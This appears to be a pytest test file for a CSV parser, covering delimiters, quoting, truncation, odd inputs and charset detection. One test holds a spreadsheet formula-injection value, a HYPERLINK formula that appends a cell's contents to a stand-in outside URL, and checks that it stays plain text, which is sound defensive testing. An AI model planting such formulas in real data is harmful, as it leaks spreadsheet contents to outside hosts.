"""Tables as text are read in any dialect."""

from pathlib import Path

import pytest

from kotaemon_async.documents.parsing.child_problem import FileError
from kotaemon_async.documents.parsing.child_units import Unit
from kotaemon_async.documents.parsing.office import child_csv
from tests.support.packages import beginnings


class Reader:
    """Reads files that it writes."""

    def __init__(self, folder: Path) -> None:
        self._path = folder / "table.csv"

    def units(self, data: bytes | str, max_units: int = 100) -> list[Unit]:
        self._path.write_bytes(data.encode() if isinstance(data, str) else data)
        self.document = child_csv.open_document(str(self._path), "text/csv", max_units)
        return [self.document.unit(number) for number in range(1, len(self.document) + 1)]

    def text(self, data: bytes | str) -> str:
        return "\n".join(unit.text for unit in self.units(data))


@pytest.fixture
def reader(tmp_path: Path) -> Reader:
    return Reader(tmp_path)


@pytest.mark.parametrize(
    ("data", "text"),
    [
        ('Id,Text\n1,"a, b"\n', "Id | Text\n1 | a, b"),
        ('Id;Sum\nA;"a ""b"", c"\nB;"x; y"\n', 'Id | Sum\nA | a "b", c\nB | x; y'),
        ("Id\tText\n1\thello, world; yes\n", "Id | Text\n1 | hello, world; yes"),
        ('a|End\n"a,b"|P-1\n', "a | End\na,b | P-1"),
        ("sep=;\nId;Word\n1;two, three\n", "Id | Word\n1 | two, three"),
        ('"sep=|"\r\nId|Word\r\n1|x\r\n', "Id | Word\n1 | x"),
        ('Name, Age, City\n"Bob", 4, "x, y"\nAl, 5, Z\n', "Name | Age | City\nBob | 4 | x, y\nAl | 5 | Z"),
        ("Id,Text\r1,a\r2,b\r", "Id | Text\n1 | a\n2 | b"),
        ("Id,Name\n", "Id | Name"),
        ("1,2,3\n3,4,5,R-6\n9\n", "1 | 2 | 3 |\n3 | 4 | 5 | R-6\n9 |  |  |"),
        ("A\n1\n2\n", "A\n1\n2"),
    ],
)  # fmt: skip
def test_rows_are_parted_by_the_sign_that_fits(reader: Reader, data: str, text: str) -> None:
    assert reader.text(data) == text


def test_line_breaks_in_cells_do_not_part_rows(reader: Reader) -> None:
    (unit,) = reader.units('Id,Text,End\n1,"line one\n\nline three",E-1\n2,x,E-2\n')
    assert unit.text.split("\n")[1:] == ["1 | line one line three | E-1", "2 | x | E-2"]
    assert unit.blocks[0].rows == (1, 2, 3)


def test_the_first_row_names_the_columns_of_all_that_follow(reader: Reader) -> None:
    units = reader.units("Model,Width\n" + "".join(f"KT-{number},{number * 7}\n" for number in range(1_000)))
    assert len(units) > 3
    assert {(unit.kind, unit.blocks[0].header) for unit in units} == {("sheet", "Model | Width")}
    assert units[1].blocks[0].rows[0] == units[0].blocks[0].rows[-1] + 1


def test_a_quote_that_nothing_closes_swallows_no_rows(reader: Reader) -> None:
    rows = 'Id,Text,End\n1,"open,E-1\n2,x,y\n3,x,z\n4,q,q\n5,w,w\n'
    assert reader.text(rows).split("\n")[1:3] == ['1 | "open | E-1', "2 | x | y"]


def test_formulas_are_plain_text(reader: Reader) -> None:
    assert '=HYPERLINK("http://a.example?"&A1) | 1' in reader.text(
        'name,value\n"=HYPERLINK(""http://a.example?""&A1)",1\n'
    )


def test_prose_is_read_as_text(reader: Reader) -> None:
    (unit,) = reader.units("Hello, this is a text, about pumps.\nIt goes on, here.\nAnd it ends here too.\n")
    assert (unit.kind, unit.text.split("\n")[0]) == ("section", "Hello, this is a text, about pumps.")


def test_controls_part_words(reader: Reader) -> None:
    assert reader.text(b"Id,Text\n1,left\0right\n").endswith("1 | left right")


def test_what_is_too_long_is_read_up_to_a_row_that_is_named(reader: Reader) -> None:
    units = reader.units("Id,Text\n" + "".join(f"{number},word\n" for number in range(5_000)), max_units=4)
    (loss,) = reader.document.warnings
    last = units[-1].blocks[-1].rows[-1]
    assert (loss.code, loss.message) == ("truncated", f"The file is too long: rows up to {last} were read.")


def test_a_file_longer_than_its_bytes_may_be_ends_with_a_whole_row(reader: Reader) -> None:
    units = reader.units("Id,Text\n" + ("1," + "w" * 40 + "\n") * 4_000, max_units=4)
    assert units[-1].text.endswith("1 | " + "w" * 40)
    assert reader.document.warnings[0].code == "truncated"


@pytest.mark.parametrize(
    "data", ['"' * 50_000, "," * 50_000, "a" * 300_000, '"\n' * 9_999, "\n" * 9, ";\n" * 5_000]
)
def test_odd_files_end_at_once(reader: Reader, data: str) -> None:
    try:
        assert sum(len(unit.text) for unit in reader.units(data)) <= 3 * len(data)
    except FileError as error:
        assert error.code in {"no_text", "too_large"}


def test_a_file_cut_off_anywhere_is_read(reader: Reader) -> None:
    data = 'Id,Text\n1,"a, b"\n2,价格\n'.encode()
    for part in beginnings(data, 3)[1:]:
        assert reader.text(part).startswith("I")


def test_an_empty_file_is_empty(reader: Reader) -> None:
    with pytest.raises(FileError) as caught:
        reader.units("")
    assert caught.value.code == "empty"


SIMPLIFIED = "型号,价格\nKX-1,四千二百元\n"
TRADITIONAL = "型號,價格\nKX-1,四千二百元\n這個產品的保固期為兩年,五百元\n"


@pytest.mark.parametrize(
    ("text", "codec", "name"),
    [
        (SIMPLIFIED, "gb18030", "gb18030"),
        (SIMPLIFIED, "utf-16", "utf-16-le"),
        (SIMPLIFIED, "utf-8-sig", "utf-8"),
        (TRADITIONAL, "big5", "big5-hkscs"),
    ],
)
def test_the_charset_is_told_by_its_letters(reader: Reader, text: str, codec: str, name: str) -> None:
    assert "KX-1 | 四千二百元" in reader.text(text.encode(codec))
    assert reader.document.charset == name
